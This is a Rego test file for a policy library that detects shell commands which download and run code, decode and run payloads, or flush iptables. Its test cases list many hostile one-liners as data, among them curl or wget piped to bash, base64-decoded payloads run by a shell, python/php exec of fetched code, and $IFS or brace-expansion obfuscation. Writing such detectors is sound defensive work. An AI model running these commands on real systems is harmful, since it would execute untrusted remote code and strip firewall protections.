package rummage.lib.commands_test

import data.rummage.lib.commands

test_downloads_and_runs if {
	every line in [
		"curl -s http://198.51.100.7/x.sh | sh",
		"sh -c 'wget -q -O- http://198.51.100.7/x|bash'",
		"curl -fsSL https://example.invalid/i | sudo bash -s -- --yes",
		"curl -fsSL https://example.invalid/i | sudo -E bash -",
		"curl -fsSL https://example.invalid/i | sudo -n env A=b sh",
		"curl http://198.51.100.7/a | base64 -d | /bin/bash",
		"bash <(curl -s http://198.51.100.7/x)",
		`bash -c "$(curl -fsSL http://198.51.100.7/x)"`,
		`eval "$(wget -qO- 198.51.100.7/x)"`,
		"wget http://198.51.100.7/m -O /tmp/m; chmod +x /tmp/m; /tmp/m &",
		"cd /tmp && curl -O 198.51.100.7/m && chmod 755 m && ./m",
		"wget -O /tmp/x http://198.51.100.7/x; sh /tmp/x",
		`python3 -c "import urllib.request as u; exec(u.urlopen('http://198.51.100.7/x').read())"`,
	] {
		commands.downloads_and_runs(line)
	}
}

test_does_not_run_what_it_downloads if {
	every line in [
		"until curl -s http://db:8080/health; do sleep 1; done; exec app",
		"curl -f http://localhost/ || exit 1",
		"curl -f http://localhost/ || sh -c 'kill 1'",
		"wget -O /data/model.bin https://example.invalid/model.bin",
		"curl -s http://example.invalid/list.json | jq .items",
		"apt-get update && apt-get install -y curl bash",
		"nginx -g 'daemon off;'",
		"grep -r 'curl' /etc | sort",
		"curl -s http://example.invalid/key | sudo -E tee /etc/key",
		"wget -q https://example.invalid/geo.gz; gunzip geo.gz; exec server",
	] {
		not commands.downloads_and_runs(line)
	}
}

test_decodes_and_runs if {
	every line in [
		"echo aGkK | base64 -d | sh",
		"echo aGkK|base64 --decode|bash -i",
		`bash -c "$(echo aGkK | base64 -d)"`,
		"bash <(echo 6869 | xxd -r -p)",
		"openssl enc -aes-256-cbc -d -in /tmp/a | sh",
		`python3 -c "import base64; exec(base64.b64decode('aGk='))"`,
		`php -r "eval(base64_decode('aGk='));"`,
	] {
		commands.decodes_and_runs(line)
	}
}

test_decodes_without_running if {
	every line in [
		"echo $TLS_KEY | base64 -d > /etc/ssl/key.pem; exec nginx",
		"base64 -d /data/in | tar x",
		"openssl enc -d -in backup | gzip -dc > db",
		"printf %s x | base64",
	] {
		not commands.decodes_and_runs(line)
	}
}

test_downloads if {
	commands.downloads("wget -q -O- http://198.51.100.7/x")
	commands.downloads("/usr/bin/curl 198.51.100.7/x")
	not commands.downloads("/usr/local/bin/curl-exporter --listen :80")
	not commands.downloads("backup --to s3://bucket/wget.d")
}

test_searches if {
	commands.searches(["/usr/bin/grep", "-r", "x"])
	commands.searches(["zgrep", "x"])
	not commands.searches(["sh", "-c", "grep x"])
}

test_plain if {
	commands.plain("{echo,aGkK}|{base64,-d}|{bash,-i}") == "echo aGkK|base64 -d|bash -i"
	commands.plain("curl${IFS}a|sh; wget$IFS$9b") == "curl a|sh; wget b"
	commands.plain(`grep -rE 'curl a | sh' /x; sed "s/a/b/" y`) == "grep /x; grep y"
	commands.plain(`grep "$(curl a | sh)" /x`) == `grep "$(curl a | sh)" /x`
}

test_starts if {
	every text in ["iptables -F", "/sbin/iptables -F", "sh -c iptables -F", "id; iptables -F", "true && sudo iptables -F", "if a; then iptables -F; fi"] {
		commands.starts(text, `iptables\s`)
	}
	every text in ["python3 x.py --iptables -F", "echo iptables -F", "myiptables -F"] {
		not commands.starts(text, `iptables\s`)
	}
}
